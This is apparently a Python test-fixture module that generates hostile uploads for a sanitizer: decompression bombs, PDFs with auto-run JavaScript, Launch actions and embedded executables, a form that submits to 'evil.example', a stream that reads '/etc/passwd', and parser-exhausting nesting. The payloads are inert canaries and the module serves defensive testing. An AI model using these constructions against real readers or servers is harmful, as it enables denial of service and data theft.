"""Files that somebody might send instead of a document: fakes, bombs, polyglots, active PDFs. Made in memory."""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image, PngImagePlugin

DOCUMENTS = Path(__file__).parents[1] / "data" / "documents"
CANARY = b"CANARY-4f1c"  # stands in everything that must not survive
HTML = b"<!doctype html><script>alert('" + CANARY + b"')</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>' + CANARY + b"</script></svg>"


def zip_archive() -> bytes:
    """A ZIP with a file in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", HTML)
    return out.getvalue()


# -- pictures -------------------------------------------------------------------------------------


def picture(kind: str, mode: str = "RGB", size: tuple[int, int] = (64, 48), **options: Any) -> bytes:
    """A picture of any kind that Pillow writes: dark at the top, light below."""
    image = Image.new("L", size, 40)
    image.paste(230, (0, size[1] // 2, *size))
    out = io.BytesIO()
    (image if mode == "L" else image.convert(mode)).save(out, kind, **options)
    return out.getvalue()


def jpeg_with_place(orientation: int = 1) -> bytes:
    """Left half red, right half blue as the reader should see it, stored as a phone of that orientation does."""
    image = Image.new("RGB", (96, 64), "red")
    image.paste((0, 0, 255), (48, 0, 96, 64))
    back = {
        2: Image.Transpose.FLIP_LEFT_RIGHT,
        3: Image.Transpose.ROTATE_180,
        4: Image.Transpose.FLIP_TOP_BOTTOM,
        5: Image.Transpose.TRANSPOSE,
        6: Image.Transpose.ROTATE_90,
        7: Image.Transpose.TRANSVERSE,
        8: Image.Transpose.ROTATE_270,
    }.get(orientation)
    if back is not None:
        image = image.transpose(back)
    exif = Image.Exif()
    exif[0x010F], exif[0x0112] = CANARY.decode(), orientation
    exif.get_ifd(0x8825).update({1: "N", 2: (29.0, 33.0, 7.0), 3: "E", 4: (106.0, 34.0, 12.0)})
    out = io.BytesIO()
    image.save(out, "JPEG", quality=95, exif=exif, comment=CANARY + b"<script>")
    return out.getvalue()


def jpeg_that_lies_about_its_size() -> bytes:
    """A small file whose header says 65500 × 65500."""
    data = bytearray(picture("JPEG"))
    start = data.index(b"\xff\xc0")
    data[start + 5 : start + 9] = struct.pack(">HH", 65500, 65500)
    return bytes(data)


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


@functools.cache
def png_of(width: int, height: int, *, bits: int = 8, colour: int = 0) -> bytes:
    """A one-coloured PNG without ever holding its pixels: 400 megapixels are 400 kB."""
    channels = {0: 1, 2: 3, 6: 4}[colour]
    row = b"\0" + b"\xc8" * (width * channels * bits // 8)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def png_with_text() -> bytes:
    """Text chunks with markup in them."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", HTML.decode())
    info.add_itxt("XML:com.adobe.xmp", CANARY.decode())
    return picture("PNG", pnginfo=info)


def png_text_bomb() -> bytes:
    """A compressed text chunk of 200 MB."""
    packed = zlib.compress(b"A" * 200_000_000, 9)
    plain = picture("PNG")
    return plain[:33] + _chunk(b"zTXt", b"Comment\0\0" + packed) + plain[33:]


def png_with_a_wrong_checksum() -> bytes:
    """A bit flipped in the pixels."""
    data = bytearray(picture("PNG"))
    data[data.index(b"IDAT") + 6] ^= 0xFF
    return bytes(data)


def heic() -> bytes:
    """A phone's picture with its place in it."""
    return (DOCUMENTS / "identity-card.heic").read_bytes()


# -- PDFs -----------------------------------------------------------------------------------------


def pdf_with(change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1, **options: Any) -> bytes:
    """A PDF with a line of text on each page, after ``change`` was made to it."""
    document = pikepdf.new()
    for number in range(pages):
        page = document.add_blank_page(page_size=(300, 200))
        page.Resources = Dictionary(
            Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
        )
        page.Contents = Stream(document, f"BT /F1 20 Tf 30 100 Td (Page {number + 1}) Tj ET".encode())
    if change is not None:
        change(document)
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def script() -> Dictionary:
    """An action that runs a script."""
    return Dictionary(S=Name.JavaScript, JS=String(CANARY.decode()))


def open_script(document: pikepdf.Pdf) -> None:
    """Runs when the document is opened."""
    document.Root.OpenAction = script()


def named_script(document: pikepdf.Pdf) -> None:
    """A script of the document's own."""
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))


def page_script(document: pikepdf.Pdf) -> None:
    """Runs when the page is shown, and when the document is closed."""
    document.pages[0].AA = Dictionary(O=script())
    document.Root.AA = Dictionary(WC=script())


def _annotation(document: pikepdf.Pdf, **entries: Any) -> None:
    note = Dictionary(Type=Name.Annot, Rect=[0, 0, 300, 200], **entries)
    document.pages[0].Annots = Array([document.make_indirect(note)])


def annotation_with(action: Dictionary, **more: Any) -> Callable[[pikepdf.Pdf], None]:
    """A link over the whole page that does something."""
    return lambda document: _annotation(document, Subtype=Name.Link, A=action, **more)


def launch() -> Dictionary:
    """Starts a program."""
    return Dictionary(S=Name.Launch, F=String(CANARY.decode() + ".exe"))


def chained() -> Dictionary:
    """Goes to a page first, and then runs a script."""
    return Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([script(), launch()]))


def attachment(document: pikepdf.Pdf) -> None:
    """A file inside."""
    document.attachments["payload.exe"] = b"MZ" + CANARY


def attached_note(document: pikepdf.Pdf) -> None:
    """A file inside an annotation."""
    held = Stream(document, b"MZ" + CANARY, {"/Type": Name.EmbeddedFile})
    spec = Dictionary(Type=Name.Filespec, F=String("payload.exe"), EF=Dictionary(F=document.make_indirect(held)))
    _annotation(document, Subtype=Name.FileAttachment, FS=spec)


def associated_file(document: pikepdf.Pdf) -> None:
    """A file that belongs to the document as a whole (PDF 2.0)."""
    held = Stream(document, b"MZ" + CANARY, {"/Type": Name.EmbeddedFile})
    spec = Dictionary(Type=Name.Filespec, F=String("payload.exe"), EF=Dictionary(F=document.make_indirect(held)))
    document.Root.AF = Array([document.make_indirect(spec)])


def form(document: pikepdf.Pdf) -> None:
    """A form with a filled text field that checks itself by a script, and a button that sends it."""
    seen = Stream(document, b"BT /F1 14 Tf 2 4 Td (Filled in) Tj ET", {"/Subtype": Name.Form, "/BBox": [0, 0, 120, 20]})
    seen.Resources = document.pages[0].Resources
    field = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        F=4,
        T=String("name"),
        V=String("Filled in"),
        Rect=[30, 40, 150, 60],
        AP=Dictionary(N=document.make_indirect(seen)),
        AA=Dictionary(K=script()),
    )
    button = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Btn,
        Ff=65536,
        F=4,
        T=String("send"),
        Rect=[30, 10, 150, 30],
        A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/" + CANARY.decode())),
    )
    fields = Array([document.make_indirect(field), document.make_indirect(button)])
    document.pages[0].Annots = fields
    document.Root.AcroForm = Dictionary(Fields=fields, CO=fields)


def xfa_form(document: pikepdf.Pdf) -> None:
    """A form of the XML kind."""
    form(document)
    document.Root.AcroForm.XFA = Stream(document, b"<xdp>" + CANARY + b"</xdp>")


def rich_media(document: pikepdf.Pdf) -> None:
    """Something that plays."""
    held = Stream(document, CANARY, {"/Type": Name.EmbeddedFile})
    asset = Dictionary(Type=Name.Filespec, F=String("a.swf"), EF=Dictionary(F=document.make_indirect(held)))
    content = Dictionary(Assets=Dictionary(Names=Array([String("a.swf"), document.make_indirect(asset)])))
    _annotation(document, Subtype=Name.RichMedia, RichMediaContent=content)


def rendition(document: pikepdf.Pdf) -> None:
    """A film with a script in its action."""
    action = Dictionary(S=Name.Rendition, OP=0, JS=String(CANARY.decode()))
    _annotation(document, Subtype=Name.Screen, A=action)


def portfolio(document: pikepdf.Pdf) -> None:
    """A PDF that opens as a folder of files."""
    attachment(document)
    document.Root.Collection = Dictionary(Type=Name.Collection, View=Name.T)


def external_stream(document: pikepdf.Pdf) -> None:
    """Page content that is read from a file of the reader's machine."""
    held = Stream(document, b"")
    held.F = String("/etc/passwd")
    document.pages[0].Contents = document.make_indirect(held)


def private_data(document: pikepdf.Pdf) -> None:
    """What a drawing program keeps for itself."""
    document.pages[0].PieceInfo = Dictionary(Maker=Dictionary(Private=String(CANARY.decode())))


def updated_with_script() -> bytes:
    """A harmless PDF with a later revision appended that opens a script under an escaped name."""
    plain = pdf_with()
    root = plain.index(b"/Type /Catalog") if b"/Type /Catalog" in plain else 0
    number = int(plain[:root].rpartition(b" 0 obj")[0].rsplit(b"\n", 1)[-1])
    pages = plain.split(b"/Pages ", 1)[1].split(b" ", 1)[0]
    offset = len(plain)
    body = (
        f"{number} 0 obj\n<< /Type /Catalog /Pages {pages.decode()} 0 R "
        f"/OpenAction << /S /J#61vaScript /J#53 ({CANARY.decode()}) >> >>\nendobj\n"
    ).encode()
    start = plain.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0]
    table = (
        f"xref\n{number} 1\n{offset:010d} 00000 n \n"
        f"trailer\n<< /Size 50 /Root {number} 0 R /Prev {start.decode()} >>\n"
        f"startxref\n{offset + len(body)}\n%%EOF\n"
    ).encode()
    return plain + body + table


def encrypted(user: str, owner: str) -> bytes:
    """Protected with AES-256; an empty user password lets anybody read it."""
    return pdf_with(encryption=pikepdf.Encryption(user=user, owner=owner))


def _raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF out of hand-written objects, the first being the catalogue."""
    out, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    table = "".join(f"{offset:010d} 00000 n \n" for offset in offsets)
    return out + (
        f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}"
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{len(out)}\n%%EOF\n"
    ).encode()


@functools.cache
def _zeros(size: int) -> bytes:
    packer, block = zlib.compressobj(9), bytes(1_000_000)
    return b"".join(packer.compress(block) for _ in range(size // len(block))) + packer.flush()


def pdf_bomb(size: int = 4_000_000_000, rounds: int = 1) -> bytes:
    """A page whose content unpacks to ``size`` bytes, packed so many times."""
    packed = _zeros(size)
    for _ in range(rounds - 1):
        packed = zlib.compress(packed, 9)
    return _pdf_of_streams([(" ".join(["/FlateDecode"] * rounds), packed)])


def pdf_bomb_behind_ascii() -> bytes:
    """A gigabyte that is packed and then written in hexadecimal digits."""
    return _pdf_of_streams([("/ASCIIHexDecode /FlateDecode", _zeros(1_000_000_000).hex().encode() + b">")])


def pdf_of_many_large_parts() -> bytes:
    """Ten parts, none of which is too large by itself."""
    return _pdf_of_streams([("/FlateDecode", _zeros(200_000_000))] * 10)


def _pdf_of_streams(streams: list[tuple[str, bytes]]) -> bytes:
    parts = [
        f"<< /Length {len(packed)} /Filter [{filters}] >>\nstream\n".encode() + packed + b"\nendstream"
        for filters, packed in streams
    ]
    places = " ".join(f"{4 + number} 0 R" for number in range(len(parts)))
    page = f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents [{places}] >>".encode()
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", pages, page, *parts])


def pdf_page_tree_loop() -> bytes:
    """Pages that contain themselves."""
    return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"])


def pdf_deep_arrays() -> bytes:
    """Brackets within brackets, to exhaust a parser's stack."""
    deep = b"[" * 200_000 + b"]" * 200_000
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>"
    return _raw_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R /X 4 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, deep]
    )


def pdf_without_pages() -> bytes:
    """A catalogue and nothing to read."""
    return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def pdf_with_a_wrong_table() -> bytes:
    """A complete file whose table of objects points elsewhere, as careless programs write it."""
    plain = pdf_with(object_stream_mode=pikepdf.ObjectStreamMode.disable)
    start = plain.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0]
    return plain.replace(b"startxref\n" + start, b"startxref\n" + str(int(start) - 9).encode())
